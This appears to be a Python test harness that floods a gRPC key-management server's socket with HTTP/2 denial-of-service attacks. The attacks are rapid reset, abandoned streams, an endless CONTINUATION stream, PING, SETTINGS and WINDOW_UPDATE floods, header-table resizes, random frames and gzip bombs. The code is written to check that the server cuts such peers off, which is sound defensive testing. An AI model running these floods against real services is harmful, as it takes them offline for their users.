"""HTTP/2 floods by one hostile peer: python floods.py KIND SOCKET SECONDS.

A process of its own, so that it takes no time from the client that must go on being served. When it is cut off it
connects again: an attacker would. Its last line is a JSON object: bytes sent, connections used, its pid.
"""

import gzip
import json
import os
import random
import select
import sys
import time

import h2wire
from h2wire import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, framed,
)  # fmt: skip

MESSAGE = framed(b"\x0a\x20" + bytes(32))  # a v2 EncryptRequest of 32 bytes
BLOCK = h2wire.header_block(h2wire.request_headers("/v2.KeyManagementService/Encrypt"))
CANCEL = bytes([0, 0, 0, 8])
STREAMS = 2**31 - 1


def per_stream(make, batch=200):
    """Frames for ever new streams, `batch` streams to a piece."""
    stream = 1
    while stream < STREAMS - 2 * batch:
        yield b"".join(make(stream + 2 * n) for n in range(batch))
        stream += 2 * batch
        if stream > 200_000:
            return  # then a new connection


def repeated(piece):
    while True:
        yield piece


def opened(stream, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, BLOCK)


def call(stream):
    return opened(stream) + frame(DATA, END_STREAM, stream, MESSAGE)


def reset(stream):
    return frame(RST_STREAM, 0, stream, CANCEL)


def endless_continuation():
    yield opened(1, 0)
    more = h2wire.header_block([(f"x-{n}", "y" * 200) for n in range(70)])
    yield from repeated(frame(CONTINUATION, 0, 1, more))


def empty_data():
    yield opened(1)
    yield from repeated(frame(DATA, 0, 1, b"") * 1000)


def window_updates():
    yield opened(1)
    yield from repeated(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1") * 1000)


def random_frames():
    source = random.Random(1)
    while True:
        yield b"".join(
            frame(
                source.randrange(12), source.randrange(256), source.randrange(9), source.randbytes(source.randrange(9))
            )
            for _ in range(50)
        )


def table_resizes():
    """Header blocks that announce ever new dynamic table sizes and fill the table."""
    fill = b"".join(b"\x40\x04" + f"{n:04d}".encode() + b"\x7f\x41" + b"v" * 192 for n in range(20))
    yield from per_stream(lambda s: frame(HEADERS, END_HEADERS, s, b"\x3f\xe1\x1f" + BLOCK + fill) + reset(s), 20)


def gzip_bombs():
    """Messages that say they are compressed, and swell a thousandfold."""
    bomb = gzip.compress(bytes(100 << 20), 9)
    body = framed(bomb, compressed=1)
    block = h2wire.header_block(
        h2wire.request_headers("/v2.KeyManagementService/Encrypt", extra=[("grpc-encoding", "gzip")])
    )

    def one(stream):
        parts = [body[i : i + 16384] for i in range(0, len(body), 16384)]
        frames = [frame(DATA, END_STREAM if i == len(parts) - 1 else 0, stream, p) for i, p in enumerate(parts)]
        return frame(HEADERS, END_HEADERS, stream, block) + b"".join(frames)

    yield from per_stream(one, 1)


#: kind: (frames after the preface, reads what the server sends, acknowledges SETTINGS)
KINDS = {
    "rapid reset": (lambda: per_stream(lambda s: opened(s) + reset(s)), True, False),
    "rapid reset after the SETTINGS ACK": (lambda: per_stream(lambda s: opened(s) + reset(s)), True, True),
    "whole calls reset at once": (lambda: per_stream(lambda s: call(s) + reset(s)), True, False),
    "whole calls reset at once after the SETTINGS ACK": (lambda: per_stream(lambda s: call(s) + reset(s)), True, True),
    "streams opened and left": (lambda: per_stream(opened), True, False),
    "replies never read": (lambda: per_stream(call), False, False),
    "replies never read after the SETTINGS ACK": (lambda: per_stream(call), False, True),
    "CONTINUATION without end": (endless_continuation, True, False),
    "PING": (lambda: repeated(frame(PING, 0, 0, b"12345678") * 1000), True, False),
    "PING whose answers are never read": (lambda: repeated(frame(PING, 0, 0, b"12345678") * 1000), False, False),
    "SETTINGS": (lambda: repeated(frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 1000), True, False),
    "SETTINGS whose answers are never read": (lambda: repeated(frame(SETTINGS) * 1000), False, False),
    "empty DATA": (empty_data, True, False),
    "WINDOW_UPDATE": (window_updates, True, False),
    "header table resizes": (table_resizes, True, False),
    "random frames": (random_frames, True, False),
    "gzip bombs": (gzip_bombs, True, True),
}
#: Those that keep libgrpc from serving others, so that they must be cut, and barred when they come again at once.
BARRED = (
    "rapid reset", "rapid reset after the SETTINGS ACK", "whole calls reset at once",
    "whole calls reset at once after the SETTINGS ACK", "streams opened and left",
)  # fmt: skip
#: Those, and the one whose replies pile up.
CUT = (*BARRED, "replies never read")


def flood(kind, path, seconds):
    make, reads, acknowledges = KINDS[kind]
    end = time.monotonic() + seconds
    sent = connections = 0
    while time.monotonic() < end:
        try:
            peer = h2wire.connect(path)
        except OSError:
            # Refused for now: an attacker would be back at once, but not in a busy loop of its own.
            select.select([], [], [], 0.01)
            continue
        connections += 1
        with peer:
            peer.setblocking(False)
            pieces = make()
            head = h2wire.PREFACE + frame(SETTINGS) + (frame(SETTINGS, ACK) if acknowledges else b"")
            # In one piece with the flood, which is then there before libgrpc reads a byte.
            waiting = memoryview(head + next(pieces))
            while (now := time.monotonic()) < end:
                readable, writable, _ = select.select([peer] if reads else [], [peer], [], min(0.2, end - now))
                try:
                    if readable and not peer.recv(1 << 20):
                        break
                    if writable:
                        count = peer.send(waiting)
                        sent += count
                        waiting = waiting[count:]
                        if not waiting:
                            waiting = memoryview(next(pieces))
                except (BlockingIOError, InterruptedError):
                    continue
                except (OSError, StopIteration):
                    break
    return {"kind": kind, "sent": sent, "connections": connections, "pid": os.getpid()}


if __name__ == "__main__":
    print(json.dumps(flood(sys.argv[1], sys.argv[2], float(sys.argv[3]))))
